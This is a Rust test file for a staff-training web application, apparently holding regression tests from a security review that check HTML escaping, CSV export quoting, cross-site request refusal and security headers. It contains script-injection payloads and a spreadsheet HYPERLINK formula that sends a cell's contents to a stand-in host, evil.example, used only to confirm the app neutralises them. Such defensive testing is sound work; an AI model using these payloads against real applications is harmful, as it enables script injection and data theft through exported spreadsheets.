//! Findings of the security review (issue 19), each held by a test that failed before its fix.

use crate::support::*;
use reqwest::StatusCode;

/// What a hostile trainer or a crafted link would put where the page writes it.
const TITLE_PAYLOAD: &str = "題</title><script>window.injected=1</script>";
const TEXTAREA_PAYLOAD: &str = "要約</textarea><script>window.injected=2</script>";

#[tokio::test]
async fn user_text_in_the_title_and_text_areas_stays_text() {
    let app = TestApp::spawn(mamori_test_support::fresh_sqlite(), true).await;
    let trainer = app.session_of(TRAINER).await;
    let created = trainer
        .call(
            "create_module",
            &[
                ("slug", "payload"),
                ("title", TITLE_PAYLOAD),
                ("summary", TEXTAREA_PAYLOAD),
                ("estimated_minutes", "5"),
            ],
        )
        .await;
    assert_eq!(created.status(), StatusCode::OK);
    // Stored: the module's own title and summary. Reflected: a link that puts a description
    // back into the upload form's text area.
    let reflected = format!(
        "/trainer/modules/payload?upload_error=failed&kind=document&description={}",
        mamori_domain::url::encode(TEXTAREA_PAYLOAD)
    );
    for path in ["/trainer/modules/payload", reflected.as_str()] {
        let (status, _, html) = trainer.page(path).await;
        assert_eq!(status, StatusCode::OK, "{path}");
        assert!(
            !html.contains("<script>window.injected"),
            "{path}: user text ran as markup: {html}"
        );
        let title = &html[html.find("<title>").unwrap()..html.find("</title>").unwrap()];
        assert!(
            title.contains("題&lt;/title&gt;&lt;script&gt;"),
            "{path}: the title shows the text as typed: {title}"
        );
        assert!(
            html.contains("要約&lt;/textarea&gt;&lt;script&gt;"),
            "{path}: the text area holds the text as typed"
        );
    }
}

#[tokio::test]
async fn exports_write_a_formula_in_a_name_as_text() {
    let app = TestApp::spawn(mamori_test_support::fresh_sqlite(), true).await;
    let admin = app.session_of(ADMIN).await;
    let learner = mamori_domain::EmployeeId::parse(LEARNER).unwrap();
    let now = chrono::Utc::now();
    let today = mamori_domain::agency_date(now);
    // Assigned to everyone, so that the person is in the report.
    mamori_test_support::publish_media_module(&app.store, now).await;
    app.store
        .assign_module(
            &mamori_test_support::slug("media"),
            mamori_domain::FiscalYear::containing(today),
            &mamori_domain::training::AssignmentTarget::Everyone,
            mamori_domain::training::DueRule::On(today + chrono::Duration::days(30)),
            TRAINER,
            now,
        )
        .await
        .unwrap();
    let person = app.store.staff_summary(&learner, today).await.unwrap();
    let formula = "=HYPERLINK(\"http://evil.example/?\"&B2,\"クリック\")";
    let mut form = vec![
        ("employee_id".to_string(), LEARNER.to_string()),
        ("name".to_string(), formula.to_string()),
        ("email".to_string(), person.email.clone()),
        ("division".to_string(), person.division.clone()),
    ];
    for (i, role) in person.security_roles.iter().enumerate() {
        form.push((format!("roles[{i}]"), role.code().to_string()));
    }
    let form: Vec<(&str, &str)> = form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let edited = admin.call("edit_staff", &form).await;
    assert_eq!(edited.status(), StatusCode::OK, "{:?}", edited.text().await);
    // Every CSV is written by `mamori_domain::csv::write` (its unit test covers each kind of
    // cell); these are the exports that carry people's names.
    for path in ["/admin/staff/export.csv", "/reports/people.csv"] {
        let response = admin.get(path).await;
        assert_eq!(response.status(), StatusCode::OK, "{path}");
        let text = response.text().await.unwrap();
        let starts: Vec<usize> = text.match_indices("=HYPERLINK").map(|(at, _)| at).collect();
        assert!(!starts.is_empty(), "{path} names the person: {text}");
        for at in starts {
            assert_eq!(
                &text[at - 1..at],
                "'",
                "{path}: a live formula: {}",
                &text[at.saturating_sub(20)..at + 20]
            );
        }
    }
}

#[tokio::test]
async fn requests_from_another_site_are_refused_and_change_nothing() {
    let app = TestApp::spawn(mamori_test_support::fresh_sqlite(), true).await;
    let admin = app.session_of(ADMIN).await;
    let post = |path: &str, header: &'static str, value: &str| {
        admin
            .client
            .post(format!("{}{path}", app.address))
            .header(header, value)
    };
    let evil = "http://evil.example";
    // Server functions (with the admin's cookie), a plain route, and the language switch.
    let attempts = [
        post("/api/logout", "origin", evil).form(&[("", "")]),
        post("/api/logout", "referer", &format!("{evil}/page")).form(&[("", "")]),
        post("/api/logout", "origin", "null").form(&[("", "")]),
        post("/admin/staff/import", "origin", evil)
            .multipart(reqwest::multipart::Form::new().text("mode", "sync")),
        post("/language", "origin", evil).form(&[("lang", "en"), ("back", "/")]),
    ];
    for attempt in attempts {
        let response = attempt.send().await.unwrap();
        assert_eq!(response.status(), StatusCode::FORBIDDEN);
        assert!(
            response
                .text()
                .await
                .unwrap()
                .contains("ほかのサイトから送られた操作は受け付けません"),
        );
    }
    // Still logged in, still in Japanese: nothing changed.
    let (status, _, html) = admin.page("/admin/staff").await;
    assert_eq!(status, StatusCode::OK);
    assert!(html.contains("<html lang=\"ja\""));
    // The site's own origin passes.
    let own = post("/api/logout", "origin", &app.address)
        .form(&[("", "")])
        .send()
        .await
        .unwrap();
    assert_eq!(own.status(), StatusCode::OK);
    let (status, _, _) = admin.page("/admin/staff").await;
    assert_ne!(
        status,
        StatusCode::OK,
        "logged out by a post from the site itself"
    );
}

#[tokio::test]
async fn pages_server_functions_and_downloads_carry_the_security_headers() {
    let app = TestApp::spawn(mamori_test_support::fresh_sqlite(), true).await;
    let admin = app.session_of(ADMIN).await;
    let answers = [
        ("page", admin.get("/admin/staff").await),
        ("login page", app.get("/login").await),
        ("server function", admin.call("current_user", &[]).await),
        ("download", admin.get("/admin/staff/export.csv").await),
        ("refusal", app.get("/admin/staff/export.csv").await),
    ];
    for (what, response) in answers {
        let headers = response.headers();
        let header = |name: &str| {
            headers
                .get(name)
                .map(|v| v.to_str().unwrap().to_string())
                .unwrap_or_default()
        };
        let policy = header("content-security-policy");
        for directive in [
            "frame-ancestors 'none'",
            "object-src 'none'",
            "base-uri 'none'",
            "form-action 'self'",
        ] {
            assert!(policy.contains(directive), "{what}: {policy}");
        }
        assert_eq!(header("x-frame-options"), "DENY", "{what}");
        assert_eq!(header("x-content-type-options"), "nosniff", "{what}");
        assert_eq!(header("referrer-policy"), "same-origin", "{what}");
        assert_eq!(header("cache-control"), "no-store", "{what}");
        // Served over plain http here: no HSTS.
        assert_eq!(header("strict-transport-security"), "", "{what}");
    }
}
